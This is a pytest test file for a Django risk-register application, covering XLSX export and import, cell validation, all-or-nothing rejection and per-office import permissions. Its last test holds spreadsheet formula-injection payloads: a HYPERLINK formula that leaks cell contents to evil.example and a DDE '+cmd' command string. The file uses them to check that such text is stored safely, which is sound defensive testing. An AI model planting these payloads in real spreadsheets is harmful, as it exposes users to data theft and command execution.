"""XLSX round trip of the register, and refusal of bad workbooks without partial writes."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from arusha_web.conftest import client_for
from arusha_web.risks.models import Control, Risk
from arusha_web.risks.spreadsheet import ImportRejected, register_import


def _export(user: Any) -> bytes:
    response = client_for(user).get(reverse("risks:export_xlsx"))
    assert response.status_code == 200
    return response.content


def _edit(data: bytes, change: Any) -> bytes:
    workbook = load_workbook(io.BytesIO(data))
    change(workbook["Risks"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _cell(sheet: Any, row: int, column: str) -> Any:
    header = [c.value for c in sheet[1]]
    return sheet.cell(row=row, column=header.index(column) + 1)


def test_export_then_import_changes_nothing_and_updates_what_was_edited(personas, make_risk):
    risk = make_risk(harms=["revenue", "trust"], indicator_codes=["BP1"], owner="Head of PORT1")
    Control.objects.create(risk=risk, kind="detective", description="Override report")
    data = _export(personas["ingrid"])
    allowed = [
        row[:2] for row in load_workbook(io.BytesIO(data))["Allowed values"].iter_rows(values_only=True)
    ]
    assert ("step", "import/selectivity") in allowed and ("harms", "revenue") in allowed
    assert register_import(data=data, actor=personas["ingrid"]) == {"created": 0, "updated": 1}
    risk.refresh_from_db()
    assert risk.history.count() == 1  # nothing changed, so no new rating row
    assert (
        risk.harms == ["revenue", "trust"] and risk.indicator_codes == ["BP1"] and risk.controls.count() == 1
    )

    def edit(sheet: Any) -> None:
        _cell(sheet, 2, "residual_likelihood").value = 2
        _cell(sheet, 2, "residual_impact").value = 3
        sheet.append(["", "import/documentary", "", "Undervaluation accepted"])

    counts = register_import(data=_edit(data, edit), actor=personas["ingrid"])
    assert counts == {"created": 1, "updated": 1}
    risk.refresh_from_db()
    assert risk.residual_score == 6 and risk.history.first().reason == "Imported from a spreadsheet."
    assert Risk.objects.get(title="Undervaluation accepted").step.code == "documentary"


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("step", "import/nowhere", "unknown process step “import/nowhere”"),
        ("office", "MOON1", "unknown office code “MOON1”"),
        ("inherent_likelihood", "high", "“high” is not a whole number"),
        ("inherent_likelihood", 7, "7 is not a level of the likelihood scale"),
        ("harms", "revenue, gossip", "unknown value(s) gossip"),
        ("status", "done", "“done” is not one of"),
        ("next_review", "next year", "“next year” is not a date"),
        ("title", None, "a title is required"),
        ("indicators", "BP1, BP99", "unknown indicator code(s) BP99"),
        ("title", "x" * 201, "201 characters; at most 200"),
        ("owner", "y" * 121, "121 characters; at most 120"),
        ("scheme", "z" * 5001, "5001 characters; at most 5000"),
    ],
)
def test_bad_cells_are_named_and_nothing_is_written(personas, make_risk, column, value, message):
    risk = make_risk()
    data = _export(personas["ingrid"])

    def edit(sheet: Any) -> None:
        _cell(sheet, 2, "owner").value = "Changed owner"  # a good change on the same import
        sheet.append(["", "import/selectivity", "", "Second risk"])
        _cell(sheet, 3, column).value = value

    with pytest.raises(ImportRejected) as rejected:
        register_import(data=_edit(data, edit), actor=personas["ingrid"])
    assert any(e.startswith(f"Row 3, column “{column}”") and message in e for e in rejected.value.errors), (
        rejected.value.errors
    )
    risk.refresh_from_db()
    assert risk.owner == "" and Risk.objects.count() == 1


def test_wrong_files_are_refused_with_a_clear_message(personas, make_risk):
    make_risk()
    client = client_for(personas["ingrid"])
    url = reverse("risks:import_xlsx")
    not_xlsx = client.post(url, {"file": SimpleUploadedFile("r.xlsx", b"ref,step\n")})
    assert "not an Excel workbook" in not_xlsx.content.decode()

    def drop_column(sheet: Any) -> None:
        sheet.delete_cols(2)

    missing = client.post(
        url, {"file": SimpleUploadedFile("r.xlsx", _edit(_export(personas["ingrid"]), drop_column))}
    )
    assert "Missing column(s) in the first row: step." in missing.content.decode()

    def duplicate(sheet: Any) -> None:
        sheet.append([c.value for c in sheet[2]])

    twice = client.post(
        url, {"file": SimpleUploadedFile("r.xlsx", _edit(_export(personas["ingrid"]), duplicate))}
    )
    assert "R-001 appears twice" in twice.content.decode()
    assert Risk.objects.count() == 1


def test_import_page_imports_for_the_integrity_unit(personas, make_risk):
    make_risk()
    data = _export(personas["ingrid"])
    response = client_for(personas["ingrid"]).post(
        reverse("risks:import_xlsx"), {"file": SimpleUploadedFile("r.xlsx", data)}
    )
    assert response.status_code == 302
    denied = client_for(personas["aude"]).post(
        reverse("risks:import_xlsx"), {"file": SimpleUploadedFile("r.xlsx", data)}
    )
    assert denied.status_code == 403  # auditors read, never write


def test_office_manager_imports_his_office_rows(personas, make_risk):
    port = make_risk("PORT1", title="Port risk")
    make_risk(None, title="National risk")  # Marc sees it, but his office export leaves it out
    client = client_for(personas["marc"])
    page = client.get(reverse("risks:import_xlsx")).content.decode()
    assert "You may import the risks of your office (PORT1) only" in page
    mine = client.get(reverse("risks:export_xlsx") + "?mine=1").content

    def edit(sheet: Any) -> None:
        assert sheet.max_row == 2  # only PORT1's risk
        _cell(sheet, 2, "owner").value = "Head of PORT1"
        sheet.append(["", "import/selectivity", "PORT1", "New port risk"])

    response = client.post(
        reverse("risks:import_xlsx"), {"file": SimpleUploadedFile("r.xlsx", _edit(mine, edit))}
    )
    assert response.status_code == 302
    port.refresh_from_db()
    assert port.owner == "Head of PORT1"
    assert Risk.objects.filter(title="New port risk", office__code="PORT1").exists()


def test_office_manager_row_for_another_office_refuses_the_whole_workbook(personas, make_risk):
    port = make_risk("PORT1", title="Port risk")
    air = make_risk("AIRP1", title="Airport risk")
    mine = client_for(personas["marc"]).get(reverse("risks:export_xlsx") + "?mine=1").content

    def edit(sheet: Any) -> None:
        _cell(sheet, 2, "owner").value = "Changed"  # a good change, lost with the bad rows
        sheet.append(["", "import/selectivity", "AIRP1", "Airport risk by Marc"])
        sheet.append(["", "import/selectivity", "", "National risk by Marc"])
        sheet.append([air.ref, "import/selectivity", "PORT1", "Moved to my office"])

    response = client_for(personas["marc"]).post(
        reverse("risks:import_xlsx"), {"file": SimpleUploadedFile("r.xlsx", _edit(mine, edit))}
    )
    page = response.content.decode()
    assert response.status_code == 400
    assert "Nothing was imported: 3 problems found." in page
    assert "Row 3, column “office”: AIRP1 is not your office" in page
    assert "Row 4, column “office”: the whole administration is not your office" in page
    assert f"Row 5 ({air.ref}), column “ref”: {air.ref} is a risk of AIRP1, not of your office" in page
    port.refresh_from_db()
    air.refresh_from_db()
    assert port.owner == "" and air.title == "Airport risk" and Risk.objects.count() == 2


def test_office_restricted_import_refuses_other_offices(personas, make_risk):
    make_risk("AIRP1")
    data = _export(personas["ingrid"])
    with pytest.raises(ImportRejected) as rejected:
        register_import(data=data, actor=personas["marc"], allowed_office_ids={personas["marc"].office_id})
    assert rejected.value.errors == [
        "Row 2 (R-001), column “office”: AIRP1 is not your office; you may only import risks of your own office."
    ]


def test_text_that_looks_like_a_formula_is_exported_as_text_and_reads_back_the_same(personas, make_risk):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    risk = make_risk(title=attack, scheme="+cmd|' /C calc'!A0", owner="@head")
    Control.objects.create(risk=risk, kind="detective", description="=1+1")
    data = _export(personas["ingrid"])
    book = load_workbook(io.BytesIO(data))
    for sheet, column, text in (
        (book["Risks"], "title", attack),
        (book["Risks"], "scheme", "+cmd|' /C calc'!A0"),
        (book["Risks"], "owner", "@head"),
        (book["Controls"], "description", "=1+1"),
    ):
        cell = _cell(sheet, 2, column)
        assert (cell.value, cell.data_type) == (text, "s")
    assert register_import(data=data, actor=personas["ingrid"]) == {"created": 0, "updated": 1}
    risk.refresh_from_db()
    assert (risk.title, risk.scheme, risk.owner) == (attack, "+cmd|' /C calc'!A0", "@head")
